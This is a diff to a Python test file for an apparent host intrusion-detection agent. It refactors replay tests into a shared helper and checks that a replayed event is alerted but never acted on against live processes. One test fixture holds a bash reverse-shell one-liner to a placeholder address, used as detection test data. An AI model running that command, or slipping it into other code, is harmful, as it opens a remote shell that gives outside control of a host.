@@ -6,6 +6,7 @@ import json
 import os
 import time
 from pathlib import Path
+from typing import Any
 
 import pytest
 
@@ -61,6 +62,24 @@ def test_missing_file(tmp_path: Path) -> None:
         s.open()
 
 
+def _replayed(tmp_path: Path, ev: object) -> Any:
+    """The embedded default policy's agent, replaying the one event ``ev`` to its end."""
+    import threading
+
+    from support.policies import default_policy
+
+    from bastion.assembly import AgentOptions, build_agent
+    from bastion.config import parse_policy
+
+    trace = _write(tmp_path / "t.jsonl", [json.dumps(to_json(ev))])  # type: ignore[arg-type]
+    pol = default_policy(tmp_path / "p.yaml", tmp_path / "shield")
+    agent = build_agent(AgentOptions(policy=parse_policy(pol.read_text(), str(pol)),
+                                     data_dir=tmp_path / "data", socket_path=None,
+                                     replay_path=trace), lambda _m: None)
+    agent.run(threading.Event())
+    return agent
+
+
 def test_a_replay_never_acts_on_the_live_host(tmp_path: Path) -> None:
     """s24: ``bastion run --replay`` armed its responses like a live agent: a recorded
     reverse shell whose pid (and start time) a live process holds now -- a recording
@@ -69,12 +88,7 @@ def test_a_replay_never_acts_on_the_live_host(tmp_path: Path) -> None:
     replay only says what would have been done: the decision is made and alerted as
     ``would-kill``, nothing is signalled."""
     import subprocess
-    import threading
 
-    from support.policies import default_policy
-
-    from bastion.assembly import AgentOptions, build_agent
-    from bastion.config import parse_policy
     from bastion.events import ExecEvent
     from bastion.procstat import read_stat
 
@@ -84,12 +98,7 @@ def test_a_replay_never_acts_on_the_live_host(tmp_path: Path) -> None:
         me = Proc(live.pid, live.pid, os.getpid(), 0, 0, 0, 7, "bash", st.start_ns, "/usr/bin/bash")
         shell = ExecEvent(time.time_ns(), me, filename="/usr/bin/bash", cwd="/tmp",
                           argv=("bash", "-c", "bash -i >& /dev/tcp/203.0.113.5/4444 0>&1"))
-        trace = _write(tmp_path / "t.jsonl", [json.dumps(to_json(shell))])
-        pol = default_policy(tmp_path / "p.yaml", tmp_path / "shield")
-        agent = build_agent(AgentOptions(policy=parse_policy(pol.read_text(), str(pol)),
-                                         data_dir=tmp_path / "data", socket_path=None,
-                                         replay_path=trace), lambda _m: None)
-        agent.run(threading.Event())
+        agent = _replayed(tmp_path, shell)
         acts = [r.data for r in agent.store.alerts(limit=50)
                 if r.data.get("rule", "").startswith("behavior.")]
         agent.store.close()
@@ -110,23 +119,12 @@ def test_a_replayed_actor_is_not_taken_for_the_live_process_holding_its_pid(
     and ancestry of whatever live process holds its pid now -- judged, trusted and
     stored as that process.  A replay's table reads no /proc."""
     import subprocess
-    import threading
-
-    from support.policies import default_policy
-
-    from bastion.assembly import AgentOptions, build_agent
-    from bastion.config import parse_policy
 
     live = subprocess.Popen(["sleep", "60"])
     try:
         who = Proc(live.pid, live.pid, 1, 0, 0, 0, 7, "x", 0, "")
         ev = FileEvent(time.time_ns(), who, op="unlink", path="/tmp/bastion-replay-probe")
-        trace = _write(tmp_path / "t.jsonl", [json.dumps(to_json(ev))])
-        pol = default_policy(tmp_path / "p.yaml", tmp_path / "shield")
-        agent = build_agent(AgentOptions(policy=parse_policy(pol.read_text(), str(pol)),
-                                         data_dir=tmp_path / "data", socket_path=None,
-                                         replay_path=trace), lambda _m: None)
-        agent.run(threading.Event())
+        agent = _replayed(tmp_path, ev)
         stored = [r.data for r in agent.store.events(limit=50)]
         agent.store.close()
         mine = [e for e in stored if e.get("path") == "/tmp/bastion-replay-probe"]
